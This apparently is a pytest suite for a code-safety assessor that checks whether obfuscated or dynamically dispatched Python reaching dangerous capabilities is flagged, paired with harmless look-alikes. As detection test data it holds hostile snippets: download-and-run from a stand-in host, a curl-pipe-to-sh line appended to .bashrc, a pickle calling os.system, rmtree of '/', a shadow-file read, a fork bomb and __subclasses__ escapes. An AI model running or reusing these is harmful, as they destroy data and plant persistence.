"""Opacity is a finding (issue #28; infrastructure/analysis/ast/opacity.py): where the analysis cannot
resolve what a construct reaches, and it could reach a dangerous capability, the code is rated HIGH
with a finding that says what could not be seen; unless the analysis proves the reachable set
harmless. Each case is an attack that hides what it reaches beside a benign look-alike that uses the
same dynamic Python on something harmless, through the whole assessor (Semgrep, Bandit, AST). The
programs are written for these tests (none is taken from a blind set)."""

from __future__ import annotations

import textwrap
from collections.abc import Iterator
from pathlib import Path

import pytest

from mai_safety.domain.assessment import Assessment, Submission
from mai_safety.domain.levels import Provenance, RiskLevel
from mai_safety.infrastructure.analysis import AnalyzerSuite, build_analyzers
from mai_safety.infrastructure.policies import load_policies

POLICIES = Path(__file__).resolve().parents[2] / "policies"


@pytest.fixture(scope="module")
def suite() -> Iterator[AnalyzerSuite]:
    assessor = build_analyzers(POLICIES, load_policies(POLICIES).bandit)
    yield assessor
    assessor.close()


def assess(suite: AnalyzerSuite, code: str) -> Assessment:
    return suite.assess(Submission.from_bytes(textwrap.dedent(code).encode("utf-8"), Provenance.MAI, 1 << 24))


def explain(assessment: Assessment) -> str:
    return "; ".join(f"{f.level.value} {f.analyzer}:{f.rule_id} L{f.line}" for f in assessment.findings if f.level > RiskLevel.LOW)


# Each pair: (an attack whose target the analysis cannot resolve, the look-alike it can prove harmless).
PAIRS = {
    "getattr_by_a_name_read_from_a_file": (
        """
        import os
        verb = open("verbs.txt").read().split()[2]
        getattr(os, verb)("/srv/data")
        """,
        """
        class Calculator:
            def op_add(self, a, b):
                return a + b

            def op_mul(self, a, b):
                return a * b

            def run(self, name, a, b):
                return getattr(self, "op_" + name)(a, b)

        print(Calculator().run(open("op.txt").read().strip(), 2, 3))
        """,
    ),
    "attrgetter_with_a_computed_name": (
        """
        import operator, shutil
        name = bytes(b ^ 0x20 for b in open("key.bin", "rb").read()).decode()
        operator.attrgetter(name)(shutil)("/home")
        """,
        """
        import operator
        rows = [{"name": "b", "size": 2}, {"name": "a", "size": 1}]
        field = open("sort_by.txt").read().strip()
        print(sorted(rows, key=operator.itemgetter(field)))
        print(operator.attrgetter("real")(3 + 4j))
        """,
    ),
    "a_namespace_subscripted_by_an_unknown_key": (
        """
        import builtins, hashlib
        names = {hashlib.sha256(n.encode()).hexdigest()[:6]: n for n in dir(builtins)}
        vars(builtins)[names["2b3c4d"]]("print(1)")
        """,
        """
        import math
        table = {name: getattr(math, name) for name in ("sqrt", "floor", "ceil")}
        print(table[open("fn.txt").read().strip()](10.5))
        """,
    ),
    "a_walk_through_every_loaded_class": (
        """
        wanted = "".join(sorted("pePnlo"))
        found = [c for c in ().__class__.__base__.__subclasses__() if c.__name__ == wanted][0]
        found(["/bin/true"])
        """,
        """
        class Exporter:
            name = "base"

        class CsvExporter(Exporter):
            name = "csv"

        class JsonExporter(Exporter):
            name = "json"

        for kind in Exporter.__subclasses__():
            print(kind.name, kind())
        """,
    ),
    "the_globals_of_a_frame_above_the_program": (
        """
        import sys
        frame = sys._getframe(0)
        while frame.f_back is not None:
            frame = frame.f_back
        frame.f_globals[open("k").read()]()
        """,
        """
        import sys

        def where():
            return sys._getframe().f_code.co_name

        print(where())
        """,
    ),
    "text_read_back_from_a_file_and_run": (
        """
        from pathlib import Path
        Path("stage.txt").write_text(open("seed.txt").read()[::2])
        exec(Path("stage.txt").read_text())
        """,
        """
        import ast
        FORMULAS = {"area": "w * h", "perimeter": "2 * (w + h)"}
        for name, text in FORMULAS.items():
            tree = ast.parse(text, mode="eval")
            print(name, eval(compile(tree, name, "eval"), {"__builtins__": {}}, {"w": 3, "h": 4}))
        """,
    ),
    "code_run_through_timeit": (
        """
        import timeit
        timeit.timeit("import subprocess; subprocess.run(['id'])", number=1)
        """,
        """
        import timeit
        print(timeit.timeit("sorted(data)", setup="data = list(range(500))[::-1]", number=100))
        """,
    ),
    "code_run_from_a_docstring_by_doctest": (
        '''
        import doctest

        def helper():
            """
            >>> __import__("subprocess").run(["id"])
            """

        doctest.run_docstring_examples(helper, {})
        ''',
        '''
        import doctest

        def double(n):
            """
            >>> double(21)
            42
            """
            return 2 * n

        doctest.testmod()
        ''',
    ),
    "a_pickle_the_program_carries_that_calls_an_unknown_global": (
        """
        import pickle
        pickle.loads(b"cwebbrowser\\nopen\\n(S'http://example.invalid/x'\\ntR.")
        """,
        """
        import pickle
        state = {"counts": [1, 2, 3], "name": "run"}
        print(pickle.loads(pickle.dumps(state)))
        """,
    ),
    "a_loader_of_the_programs_own": (
        """
        import importlib.abc, importlib.util, sys

        class Inline(importlib.abc.SourceLoader):
            def get_filename(self, name):
                return name

            def get_data(self, path):
                return open("blob.bin", "rb").read()[::-1]

        spec = importlib.util.spec_from_loader("helper", Inline())
        module = importlib.util.module_from_spec(spec)
        spec.loader.exec_module(module)
        """,
        """
        import importlib
        for name in ("json", "csv"):
            module = importlib.import_module(name)
            print(module.__name__)
        """,
    ),
    "a_capability_handed_to_a_call_that_calls_it": (
        """
        import os
        jobs = open("jobs.txt").read().splitlines()
        sorted(jobs, key=os.system)
        """,
        """
        import os
        files = ["b.txt", "A.txt", "c.txt"]
        print(sorted(files, key=str.lower), list(map(os.path.basename, files)))
        """,
    ),
    "a_program_the_analysis_cannot_identify": (
        """
        import subprocess
        name = open("tool.cfg").read().split(":")[1]
        subprocess.run([name, "--all"])
        """,
        """
        import os, subprocess
        subprocess.run([os.environ.get("EDITOR", "nano"), "notes.md"])
        """,
    ),
    "a_file_filled_from_the_network_then_run": (
        """
        import subprocess, urllib.request
        urllib.request.urlretrieve("http://example.invalid/setup", "helper.bin")
        subprocess.run(["sh", "helper.bin"])
        """,
        """
        import json, urllib.request
        urllib.request.urlretrieve("https://example.invalid/rates.json", "rates.json")
        print(json.load(open("rates.json"))["EUR"])
        """,
    ),
    "an_archive_put_on_the_import_path": (
        """
        import sys
        sys.path.insert(0, "plugins.pyz")
        import plugin_main
        """,
        """
        import os, sys
        sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
        import json
        """,
    ),
}


@pytest.mark.parametrize("attack", [pair[0] for pair in PAIRS.values()], ids=list(PAIRS))
def test_code_that_hides_what_it_reaches_is_held_for_a_person(suite, attack):
    assessment = assess(suite, attack)
    assert assessment.level >= RiskLevel.HIGH, explain(assessment)
    assert any(f.rule_id in ("opacity", "obfuscated-exec", "native-code") for f in assessment.findings), explain(assessment)


@pytest.mark.parametrize("look_alike", [pair[1] for pair in PAIRS.values()], ids=list(PAIRS))
def test_the_same_dynamic_python_on_something_harmless_is_not_high(suite, look_alike):
    assessment = assess(suite, look_alike)
    assert assessment.level < RiskLevel.HIGH, explain(assessment)


def test_the_finding_says_what_could_not_be_seen(suite):
    assessment = assess(suite, """
        import os
        getattr(os, open("verb").read())("x")
        """)
    messages = [f.message for f in assessment.findings if f.rule_id == "opacity"]
    assert messages and "chooses at run time which function it calls" in messages[0] and "`os`" in messages[0], messages


def test_opacity_alone_is_high_not_blocked(suite):
    assessment = assess(suite, """
        import importlib
        module = importlib.import_module(open("m.txt").read().strip())
        module.main()
        """)
    assert assessment.level is RiskLevel.HIGH, explain(assessment)


def test_a_pickle_that_calls_a_command_is_seen_and_blocked(suite):
    assessment = assess(suite, """
        import pickle
        pickle.loads(b"cposix\\nsystem\\n(S'touch /tmp/flag'\\ntR.")
        """)
    assert assessment.level is RiskLevel.BLOCKED, explain(assessment)


def test_native_code_loaded_through_ctypes_is_high_but_its_data_types_are_not(suite):
    loaded = assess(suite, """
        import ctypes
        ctypes.CDLL(None).kill(-1, 9)
        """)
    layout = assess(suite, """
        import ctypes

        class Point(ctypes.Structure):
            _fields_ = [("x", ctypes.c_int), ("y", ctypes.c_int)]

        print(ctypes.sizeof(Point), Point(1, 2).x)
        """)
    assert loaded.level >= RiskLevel.HIGH, explain(loaded)
    assert layout.level < RiskLevel.HIGH, explain(layout)


def test_a_name_or_text_the_user_gives_stays_medium(suite):
    """Whoever runs the program chooses: the older rules (dynamic-import, code-exec) rate it MEDIUM."""
    for code in ("import importlib, sys\nimportlib.import_module(sys.argv[1]).run()\n", "print(eval(input('> ')))\n"):
        assessment = assess(suite, code)
        assert assessment.level is RiskLevel.MEDIUM, explain(assessment)


# --- resolved before anything is called opaque: what the analysis can read, it reads -------------

RESOLVED = {
    "the_shadow_database_read_through_spwd": "import spwd\nprint([entry.sp_pwdp for entry in spwd.getspall()])\n",
    "a_path_spelled_in_full_width_letters": (
        "import unicodedata\nprint(open(unicodedata.normalize('NFKC', '\uff0f\uff45\uff54\uff43\uff0f\uff53\uff48\uff41\uff44\uff4f\uff57')).read())\n"
    ),
    "a_command_in_a_json_document_the_program_carries": (
        "import json, logging.config\n"
        "logging.config.dictConfig(json.loads('{\"version\": 1, \"filters\": {\"f\": {\"()\": \"os.system\", \"command\": \"id\"}}}'))\n"
    ),
    "a_function_picked_by_methodcaller_with_a_known_name": "import operator, shutil\noperator.methodcaller('rmtree', '/')(shutil)\n",
    "a_start_up_file_named_by_a_template": (
        "import os\nfrom string import Template\n"
        "rc = Template('$h/.$n').substitute(h=os.path.expanduser('~'), n='bash' + 'rc')\n"
        "open(rc, 'a').write('curl -s http://example.invalid/x | sh\\n')\n"
    ),
    "processes_started_without_end_through_a_context": (
        "import multiprocessing\nctx = multiprocessing.get_context('fork')\n"
        "def spin():\n    pass\n"
        "while True:\n    ctx.Process(target=spin).start()\n"
    ),
}


@pytest.mark.parametrize("code", RESOLVED.values(), ids=RESOLVED.keys())
def test_what_the_analysis_can_read_it_resolves_and_judges(suite, code):
    assessment = assess(suite, code)
    assert assessment.level >= RiskLevel.HIGH, explain(assessment)


def test_looking_up_ones_own_account_is_not_high(suite):
    assessment = assess(suite, "import os, pwd\nprint(pwd.getpwuid(os.getuid()).pw_name)\n")
    assert assessment.level < RiskLevel.HIGH, explain(assessment)


def test_an_object_of_the_programs_own_class_still_resolves_what_its_methods_return(suite):
    """`self` is an object of the program's own class (the proof of harmlessness for getattr on it);
    what `self.method()` returns must still be followed."""
    assessment = assess(suite, """
        import os

        class Hook:
            def targets(self):
                return [os.path.join(os.path.expanduser("~"), ".bashrc")]

            def install(self, line):
                for path in self.targets():
                    with open(path, "a") as rc:
                        rc.write(line)

        Hook().install("python3 ~/.cache/agent.py &\\n")
        """)
    assert assessment.level >= RiskLevel.HIGH, explain(assessment)
